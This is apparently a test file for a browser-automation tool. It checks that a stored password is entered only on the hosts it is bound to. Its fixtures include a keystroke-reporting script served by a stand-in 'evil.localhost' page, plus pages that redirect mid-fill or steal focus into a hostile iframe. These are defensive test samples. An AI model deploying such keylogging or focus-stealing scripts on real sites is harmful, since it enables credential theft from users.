import { afterAll, beforeAll, expect, test } from "bun:test";
import { loadHubConfig } from "#hub/platform/config.ts";
import { systemClock } from "#shared/kit/clock.ts";
import type { RecipeAction } from "#shared/protocol/schema/recipe.ts";
import { startTestHub, type TestHub } from "#test/support/rigs/hub.ts";
import { type LanePages, openLanePages } from "#test/support/rigs/lane-pages.ts";
import { runRecipe } from "#worker/browser/actions/recipe.ts";

/** A recipe's secret goes into frames of the hosts that it is bound to and nowhere else, however the recipe gets there. */

const VALUE = "attack-site-password";
const PASS = ["$", "{ENV:PASS}"].join("");
const GOOD = "good.localhost";
const EVIL = "evil.localhost";

const FIELD = '<input id="f" autofocus>';
/** Tells its origin what is entered, key by key. */
const TELLS = `<script>addEventListener("input", (e) => fetch("/told?" + encodeURIComponent(e.target.value)))</script>`;

let site: ReturnType<typeof startSite>;
let lane: LanePages;

function startSite() {
  const told: string[] = [];
  const page = (host: string, path: string, port: number): string => {
    const evil = `http://${EVIL}:${port}`;
    const good = `http://${GOOD}:${port}`;
    switch (path) {
      case "/framed":
        return `<iframe id="i" src="${evil}/" allow="focus-without-user-activation"></iframe>`;
      case "/srcdoc":
        return `<iframe id="i" srcdoc='${FIELD}'></iframe>`;
      case "/data":
        return `<iframe id="i" src='data:text/html,${encodeURIComponent(FIELD)}'></iframe>`;
      case "/frames-good":
        return `<iframe id="i" src="${good}/"></iframe>`;
      case "/leaves":
        // Goes away in the moment in which the field is looked for.
        return `${FIELD}<script>new MutationObserver(() => {}); setTimeout(() => location.replace("${evil}/"), 60)</script>`;
      case "/steals-focus":
        return `${FIELD}<iframe id="i" src="${evil}/"></iframe><script>addEventListener("keydown", () => i.focus())</script>`;
      default:
        return FIELD + (host === EVIL ? `<p id="evil">evil</p>${TELLS}` : "");
    }
  };
  const server = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    fetch: (request, { port = 0 }) => {
      const { hostname, pathname, search } = new URL(request.url);
      if (pathname === "/told") told.push(`${hostname} ${decodeURIComponent(search.slice(1))}`);
      return new Response(page(hostname, pathname, port), {
        headers: { "content-type": "text/html" },
      });
    },
  });
  const at = (host: string, path = "/") => `http://${host}:${server.port}${path}`;
  return { told, at, stop: () => server.stop(true) };
}

beforeAll(async () => {
  site = startSite();
  lane = await openLanePages();
}, 180_000);
afterAll(async () => {
  await lane?.close();
  await site?.stop();
});

/** What became of the recipe, and of the field that is left. */
async function run(url: string, actions: RecipeAction[], hosts: string[] = [GOOD], timeout_s = 60) {
  const page = await lane.newPage();
  page.setDefaultTimeout(120_000);
  try {
    await page.goto(url);
    const error = await runRecipe({
      page,
      name: "recipe",
      actions,
      timeout_s,
      secrets: { PASS: VALUE },
      clock: systemClock,
      hide: () => () => {},
      secret_hosts: { PASS: hosts },
      onStep: () => {},
      afterClick: async () => {},
    }).then(
      () => null,
      (err: Error) => err.message,
    );
    const fields = await Promise.all(
      page.frames().map((frame) =>
        // What is there now: a frame that is gone, or has no such field, has nothing in it.
        frame.evaluate<string>(`document.querySelector("#f")?.value ?? ""`).catch(() => ""),
      ),
    );
    return { error, fields: fields.filter((value) => value !== "") };
  } finally {
    await page.close();
  }
}

const fill = (selector = "#f"): RecipeAction => ({ kind: "fill", selector, text: PASS });
const type: RecipeAction = { kind: "type", text: PASS };
const goto = (url: string): RecipeAction => ({ kind: "navigate", url });
const focus = (selector: string): RecipeAction => ({ kind: "click", selector });
const INNER = "iframe >> internal:control=enter-frame >> #f";

test("on the host that it is bound to it is filled and typed, also in a frame of that host", async () => {
  expect(await run(site.at(GOOD), [fill()])).toEqual({ error: null, fields: [VALUE] });
  expect(await run(site.at(GOOD), [focus("#f"), type])).toEqual({ error: null, fields: [VALUE] });
  expect(await run(site.at(EVIL, "/frames-good"), [fill(INNER)])).toMatchObject({
    fields: [VALUE],
  });
  expect(await run(site.at(GOOD), [fill()], ["*.localhost"])).toMatchObject({ fields: [VALUE] });
}, 180_000);

const attacks: [string, () => [string, RecipeAction[]]][] = [
  ["another site from the start", () => [site.at(EVIL), [fill()]]],
  ["a recipe that navigates to another site", () => [site.at(GOOD), [goto(site.at(EVIL)), fill()]]],
  ["one that types there", () => [site.at(GOOD), [goto(site.at(EVIL)), focus("#f"), type]]],
  [
    "a page that a script of the recipe sends elsewhere",
    () => [
      site.at(GOOD),
      [
        { kind: "evaluate", code: `location.href = ${JSON.stringify(site.at(EVIL, "/?there"))}` },
        { kind: "wait", selector: "#evil" },
        fill(),
      ],
    ],
  ],
  ["an iframe of another site", () => [site.at(GOOD, "/framed"), [fill(INNER)]]],
  ["typing into an iframe of another site", () => [site.at(GOOD, "/framed"), [focus(INNER), type]]],
  ["an iframe without an address", () => [site.at(GOOD, "/srcdoc"), [fill(INNER)]]],
  ["an iframe of a data: address", () => [site.at(GOOD, "/data"), [fill(INNER)]]],
  ["a host that only begins alike", () => [site.at(`${GOOD.slice(0, -10)}.x.localhost`), [fill()]]],
];
for (const [what, make] of attacks)
  test(`it is not entered: ${what}`, async () => {
    site.told.splice(0);
    const { error, fields } = await run(...make());
    expect(error).toContain("PASS may not be entered on ");
    expect(error).not.toContain(VALUE);
    expect(fields).toEqual([]);
    expect(site.told).toEqual([]);
  }, 180_000);

test("a page that leaves, or moves the focus while keys come, gets no more than one key elsewhere", async () => {
  for (const [path, actions] of [
    ["/leaves", [fill(), fill(), fill()]],
    ["/steals-focus", [focus("#f"), type]],
  ] as [string, RecipeAction[]][]) {
    site.told.splice(0);
    await run(site.at(GOOD, path), actions, [GOOD], 10);
    const elsewhere = site.told.filter((line) => line.startsWith(EVIL));
    expect(elsewhere.every((line) => line.length <= `${EVIL} `.length + 1)).toBeTrue();
  }
}, 180_000);

test("a name is bound by SVC_RECIPE_ENV, else to the recipe's own host; a session has none", async () => {
  const env = { PASS: VALUE, OTHER: "o", SVC_RECIPE_ENV: "PASS@A.test, PASS@*.b.test,OTHER" };
  expect(loadHubConfig(env)).toMatchObject({
    recipe_env: { PASS: VALUE, OTHER: "o" },
    recipe_hosts: { PASS: ["a.test", "*.b.test"] },
  });
  for (const bad of ["PASS@", "PASS@*", "PASS@a b", "PASS@http://a.test", "@a.test", "PASS@a@b"])
    expect(() => loadHubConfig({ SVC_RECIPE_ENV: bad })).toThrow(/SVC_RECIPE_ENV/);
  const hub: TestHub = await startTestHub({ env, alone: true });
  try {
    const worker = await hub.worker();
    const { body } = await hub.call("POST", "/sessions", { url: "http://evil.test/" });
    const actions = ["PASS", "OTHER"].map((name) => ({
      kind: "fill",
      selector: "#f",
      text: ["$", `{ENV:${name}}`].join(""),
    }));
    await hub.call("POST", `/sessions/${body.session_id}/recipe`, { actions });
    const call = await worker.calls.next((one) => one.action === "recipe");
    expect(call.args.secret_hosts).toEqual({ PASS: ["a.test", "*.b.test"], OTHER: [] });
  } finally {
    await hub.close();
  }
});
